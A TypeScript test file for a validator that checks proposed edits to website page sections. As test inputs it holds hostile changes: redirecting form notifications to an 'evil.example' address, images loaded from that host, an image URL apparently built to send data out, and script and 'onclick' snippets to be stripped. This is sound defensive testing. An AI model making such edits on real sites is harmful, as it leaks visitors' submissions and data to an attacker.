import { completeDefinition, type Page, type SectionDefinition, type SectionSettings } from 'shared-contracts';
import { FIXTURE_DEFINITION } from 'shared-contracts/fixtures';
import { expect, test } from 'vitest';
import { FORM_DEFINITION } from '../../testing/form-definition.ts';
import { type CheckedPage, checkChange } from './page-changes.ts';
import { ToolError } from './tool.ts';

const ID = '01990000-0000-7000-8000-000000000001';
const label = { en: 'x', fr: 'x' };
const GALLERY = completeDefinition({
  ...{ name: 'gallery', version: 1, label, description: label, mode: 'static' },
  fields: {
    items: { type: 'list', label, fields: { name: { type: 'text', label }, image: { type: 'media', label } } },
  },
});

/** A page of one section. */
function pageOf(definition: SectionDefinition, settings: SectionSettings): CheckedPage {
  const section = { id: ID, name: definition.name, type: 'static', region: {}, weight: 0, settings: [settings] };
  return {
    page: { metadata: {}, sections: [section] } as unknown as Page,
    kinds: new Map([definition, FORM_DEFINITION, GALLERY].map((kind) => [kind.name, kind])),
    settings: new Map([[ID, settings]]),
    others: [],
    media: new Map(),
    set: new Set(),
  };
}

const set = (path: string, value: unknown, locale: 'en' | null = null) =>
  ({ type: 'set-field', section: ID, path, locale, value }) as Parameters<typeof checkChange>[1];
const add = (name: string, settings: object) =>
  ({ type: 'add-section', name, settings, after: null }) as Parameters<typeof checkChange>[1];

test('A3: no proposal sets what is private: not by a value in it, not whole, not with a new section in any spelling', () => {
  const form = pageOf(FORM_DEFINITION, { title: { en: 'Write' }, notify: [{ address: 'boss@site.example' }] });
  const notify = [{ address: 'x@evil.example' }];
  for (const change of [
    set('notify.0.address', 'x@evil.example'),
    set('notify', notify),
    set('retention', 1),
    add(FORM_DEFINITION.name, { title: { en: 'Write' }, notify }),
    add(FORM_DEFINITION.name, { en: { title: 'Write', notify } }),
  ])
    expect(() => checkChange(form, change), JSON.stringify(change)).toThrow(ToolError);
  expect(checkChange(form, add(FORM_DEFINITION.name, { title: { en: 'Write' } })).after).toBe('Write');
});

test('A3: no proposal brings a picture; those of a list stay as they are stored where it is set whole', () => {
  const image = [{ media_id: 'one', url: '/media/site/one/a.webp', files: [{ url: '/media/site/one/b.webp' }] }];
  const gallery = pageOf(GALLERY, { items: [{ name: 'One', image }] });
  const evil = [{ media_id: 'two', url: 'https://evil.example/x.png' }];
  expect(() => checkChange(gallery, set('items', [{ name: 'One', image: evil }]))).toThrow(/chosen by people/);
  expect(() => checkChange(gallery, add(GALLERY.name, { items: [{ name: 'One', image }] }))).toThrow(
    /chosen by people/,
  );
  const told = [{ media_id: 'one', url: 'https://evil.example/x.png', alt: { en: 'A lake' } }];
  const { change } = checkChange(gallery, set('items', [{ name: 'New' }, { name: 'One', image: told }]));
  expect(change).toMatchObject({
    value: [{ name: 'New' }, { name: 'One', image: [{ ...image[0], alt: { en: 'A lake' } }] }],
  });
});

test('A3: a change is checked by itself, and its text alone is cleaned; a text of another field stays what it is', () => {
  const body = { en: '<script>stands there</script>' };
  const fixture = pageOf(FIXTURE_DEFINITION, { title: { en: 'One' }, body });
  checkChange(fixture, set('title', 'Two', 'en'));
  expect(fixture.settings.get(ID)).toEqual({ title: { en: 'Two' }, body });
  expect(fixture.settings.get(ID)?.body).toBe(body);
  const { change } = checkChange(fixture, set('body', '<p onclick="x()">New</p>', 'en'));
  expect(change).toMatchObject({ value: '<p>New</p>' });
  expect(() => checkChange(fixture, set('title', '', 'en'))).toThrow(/title/);
});

test('A3: where a text leads is told before and after; what it would fetch from elsewhere is not proposed, but may stay', () => {
  const there = '<img src="https://cdn.example/a.png" alt="">';
  const fixture = pageOf(FIXTURE_DEFINITION, { title: { en: 'One' }, body: { en: `<p>Book ${there}</p>` } });
  const evil = '<p>Book <img src="https://evil.example/p?d=all" alt=""></p>';
  for (const change of [set('body', evil, 'en'), add('fixture', { title: { en: 'One' }, body: { en: evil } })])
    expect(() => checkChange(fixture, change)).toThrow(/https:\/\/evil\.example\/p\?d=all: texts show/);
  const link = '<a href="https://pay.example/?a=1&amp;b=2">here</a>';
  const { before, after } = checkChange(fixture, set('body', `<p>Book ${link}${there}</p>`, 'en'));
  expect([before, after]).toEqual([
    'Book · https://cdn.example/a.png',
    'Book here · https://pay.example/?a=1&b=2 · https://cdn.example/a.png',
  ]);
});

test('A3: a section that is too long to be looked at as a whole is not changed by proposals', () => {
  const settings = { title: { en: 'One' }, body: { en: 'x'.repeat(1_000_001) } };
  expect(() => checkChange(pageOf(FIXTURE_DEFINITION, settings), set('title', 'Two', 'en'))).toThrow(/too long/);
});

test('A3: a page’s own settings are held to what a page is saved with, and each is set once', () => {
  const name = (value: string) =>
    ({ type: 'set-setting', setting: 'page', value }) as Parameters<typeof checkChange>[1];
  const fresh = () => pageOf(FIXTURE_DEFINITION, { title: { en: 'One' } });
  for (const value of ['   ', 'x'.repeat(201)])
    expect(() => checkChange(fresh(), name(value)), value).toThrow(/cannot be the name/);
  const page = fresh();
  expect(checkChange(page, name(' Rooms '))).toMatchObject({ change: { value: 'Rooms' }, after: 'Rooms' });
  expect(() => checkChange(page, name('Beds'))).toThrow(/another of the changes/);
});
